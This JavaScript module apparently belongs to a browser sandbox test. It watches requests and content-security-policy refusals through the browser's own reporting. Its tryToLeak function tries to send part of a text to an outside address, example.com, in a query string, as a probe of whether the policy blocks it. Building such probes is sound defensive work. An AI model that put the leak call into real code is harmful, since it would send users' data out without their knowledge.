// What the browser itself reports about requests, in whichever thread this runs: the page or a
// model's worker. Nothing is counted by our own code, so nothing that our code forgot is missed.

/**
 * @typedef {{ kind: 'request', url: string, bytes: number } | { kind: 'refused', url: string, rule: string }} Sighting
 *
 * @param {(sighting: Sighting) => void} tell
 */
export function witness(tell) {
  new PerformanceObserver((list) => {
    for (const entry of /** @type {PerformanceResourceTiming[]} */ (list.getEntries())) {
      if (/^https?:/.test(entry.name)) tell({ kind: 'request', url: entry.name, bytes: entry.encodedBodySize });
    }
  }).observe({ type: 'resource', buffered: true });
  let last = { url: '', at: -Infinity };
  addEventListener('securitypolicyviolation', (event) => {
    const { blockedURI: url, effectiveDirective: rule, timeStamp: at } = /** @type {SecurityPolicyViolationEvent} */ (event);
    // A host may send the policy as a header too. Then both refuse, and one attempt is reported twice.
    const again = url === last.url && at - last.at < SAME_ATTEMPT_MS;
    last = { url, at };
    if (!again) tell({ kind: 'refused', url, rule });
  });
}

const SAME_ATTEMPT_MS = 50;

/** An address that anybody may ask, and that nobody gets to ask from here. */
const OUTSIDE = 'https://example.com/';

/** Tries to carry a text out. Resolves with whether that worked. @param {string} text */
export async function tryToLeak(text) {
  try {
    await fetch(`${OUTSIDE}?text=${encodeURIComponent(text.slice(0, 20))}`, { mode: 'no-cors' });
    return true;
  } catch {
    return false;
  }
}
